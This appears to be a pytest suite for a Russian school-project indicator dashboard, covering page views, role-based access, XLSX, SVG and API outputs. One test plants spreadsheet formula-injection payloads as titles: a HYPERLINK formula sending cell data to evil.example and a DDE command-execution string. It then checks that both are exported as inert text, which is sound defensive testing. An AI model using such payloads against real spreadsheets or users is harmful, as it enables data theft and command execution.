"""The 500+ dashboards as people use them: pages, the drill-down, downloads and the API."""
import io
import re

import openpyxl
import pytest
from lxml import etree

from core.project500 import lists, steps
from tests.factories import edit, login, make_user
from tests.unit.test_workbooks import cells, formulas_in

YEAR = 2026


@pytest.fixture
def project(tree, host, hasher):
    """The ``tree`` with 66-1-1..3 and 66-2-1 in the project; 66-1-1 and 66-2-1 attended the seminar."""
    with edit(tree) as site:
        make_user(site, "coordinator2", hasher, [("municipal_coordinator", "66/m2")])
        steps.enrol(host, site["66"], ["66-1-1", "66-1-2", "66-1-3", "66-2-1"], YEAR, "region66")
        steps.record_seminar(host, steps.participation_of(site["66"]["m1"]["s1"], YEAR), True, "coordinator")
        steps.record_seminar(host, steps.participation_of(site["66"]["m2"]["s1"], YEAR), True, "coordinator2")
    return tree


def row(page, code):
    """The cells of the indicator ``code`` in the dashboard's table."""
    m = re.search(r'<tr data-code="%s">(.*?)</tr>' % code, page.text, re.S)
    return [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", m.group(1), re.S)]


def test_the_coordinator_reads_the_municipality_dashboard(testapp, project):
    login(testapp, "coordinator")
    page = testapp.get(f"/66/m1/@@indicators-500?year={YEAR}")
    assert "Показатели проекта «500+»" in page.text
    cells = row(page, "seminar_attended")
    assert cells[1] == "Доля ОО, принявших участие в установочном семинаре"
    assert cells[2:5] == ["1", "3", "33,3\u00a0%"] and cells[5] == "2 ОО"
    assert page.text.count('<g class="bar"') == len(lists.INDICATORS)
    assert 'href="http://localhost/66/m1/@@indicators-500.xlsx?year=2026"' in page.text


def test_the_dashboard_opens_on_the_latest_year_with_schools(testapp, project):
    login(testapp, "coordinator")
    page = testapp.get("/66/m1/@@indicators-500")
    assert '<option value="2026" selected="selected">2026</option>' in page.text
    assert row(page, "seminar_attended")[2:4] == ["1", "3"]


def test_a_curator_is_refused_the_municipality_dashboard(testapp, project):
    login(testapp, "curator")
    testapp.get("/66/m1/@@indicators-500", status=403)
    testapp.get("/66/m1/@@indicators-500.xlsx", status=403)
    testapp.get("/66/m1/@@indicators-500-missing?code=surveyed", status=403)


def test_the_regional_operator_reads_the_region_by_municipality_but_not_the_federation(testapp, project):
    login(testapp, "region66")
    page = testapp.get(f"/66/@@indicators-500?year={YEAR}&chart=seminar_attended")
    assert row(page, "seminar_attended")[2:5] == ["2", "4", "50,0\u00a0%"]
    assert 'href="http://localhost/66/m1/@@indicators-500?year=2026">Муниципалитет 66-1</a>' in page.text
    assert '<td class="num">3</td>' in page.text and "33,3\u00a0%" in page.text
    assert page.text.count('<g class="bar"') == 2
    testapp.get("/@@indicators-500", status=403)


def test_the_federal_operator_reads_the_federation_by_region(testapp, project):
    login(testapp, "federal")
    page = testapp.get(f"/@@indicators-500?year={YEAR}")
    assert row(page, "seminar_attended")[2:5] == ["2", "4", "50,0\u00a0%"]
    for code in ("24", "54", "66"):
        assert f'href="http://localhost/{code}/@@indicators-500?year=2026"' in page.text


def test_the_drill_down_lists_the_schools_not_meeting_an_indicator(testapp, project):
    login(testapp, "coordinator")
    page = testapp.get("/66/m1/@@indicators-500").click(href=r"code=seminar_attended")
    assert "Школы проекта, ещё не выполнившие показатель: <strong>2</strong>" in page.text
    links = re.findall(r'<td><a href="([^"]+)">([^<]+)</a></td><td>([^<]+)</td>', page.text)
    assert [(href, code) for href, _, code in links] == [
        ("http://localhost/66/m1/s2/500plus-2026/", "66-1-2"), ("http://localhost/66/m1/s3/500plus-2026/", "66-1-3")]
    testapp.get("/66/m1/@@indicators-500-missing?code=no_such", status=400)


def test_the_xlsx_download_holds_the_figures(testapp, project):
    login(testapp, "region66")
    res = testapp.get(f"/66/@@indicators-500.xlsx?year={YEAR}")
    assert res.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert res.headers["Content-Disposition"] == "attachment; filename*=UTF-8''pokazateli-500-66-2026.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(res.body))
    rows = {r[2]: r for r in book["Показатели"].iter_rows(min_row=4, values_only=True)}
    assert rows["seminar_attended"][3:6] == (2, 4, 0.5)
    assert [r[1] for r in book["По муниципалитетам"].iter_rows(min_row=2, values_only=True)] == ["m1", "m2"]


def test_names_imported_as_formulas_come_out_as_text_in_both_downloads(testapp, project, host):
    hyperlink, dde = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=cmd|' /C calc'!A0"
    with edit(project) as site:
        site["66"]["m1"].title = hyperlink
        site["66"]["m1"]["s1"].title = dde
        steps.import_risk_profiles(host, site["66"], [(2, "66-1-1", "staff_shortage", "high")], YEAR, "region66")
    login(testapp, "region66")
    indicators = testapp.get(f"/66/@@indicators-500.xlsx?year={YEAR}").body
    profile = testapp.get(f"/66/m1/s1/500plus-{YEAR}/@@risk-profile.xlsx").body
    assert formulas_in(indicators) == [] and formulas_in(profile) == []
    assert cells(indicators)[hyperlink].data_type == "s" and cells(profile)[dde].data_type == "s"
    assert cells(indicators)[0.5].data_type == "n" and cells(profile)[YEAR].data_type == "n"


def test_the_chart_downloads_as_svg(testapp, project):
    login(testapp, "coordinator")
    res = testapp.get(f"/66/m1/@@indicators-500.svg?year={YEAR}")
    assert res.content_type == "image/svg+xml" and "attachment" in res.headers["Content-Disposition"]
    svg = etree.fromstring(res.body, etree.XMLParser(resolve_entities=False, no_network=True))
    assert len(svg.findall("{http://www.w3.org/2000/svg}g")) == len(lists.INDICATORS)


def test_the_api_gives_the_same_figures(testapp, project):
    login(testapp, "region66")
    body = testapp.get(f"/api/v1/tree/66/@@indicators-500?year={YEAR}").json
    figures = {f["code"]: f for f in body["indicators"]}
    assert body["total"] == 4 and body["years"] == [YEAR]
    assert figures["seminar_attended"] == {"code": "seminar_attended", "count": 2, "total": 4, "share": 0.5,
                                           "title": "Доля ОО, принявших участие в установочном семинаре"}
    assert [(c["code"], c["total"], c["shares"]["seminar_attended"]) for c in body["breakdown"]] == [
        ("m1", 3, 1 / 3), ("m2", 1, 1.0)]
    missing = testapp.get("/api/v1/tree/66/@@indicators-500-missing?code=seminar_attended&per_page=1").json
    assert missing["total"] == 2 and [s["code"] for s in missing["schools"]] == ["66-1-2"]
    err = testapp.get("/api/v1/tree/66/@@indicators-500?year=abc", status=400).json["error"]
    assert err["code"] == "validation" and err["details"][0]["field"] == "year"
    testapp.get("/api/v1/tree/@@indicators-500", status=403)
    testapp.get("/api/v1/tree/66/@@indicators-500-missing?code=nope", status=404)
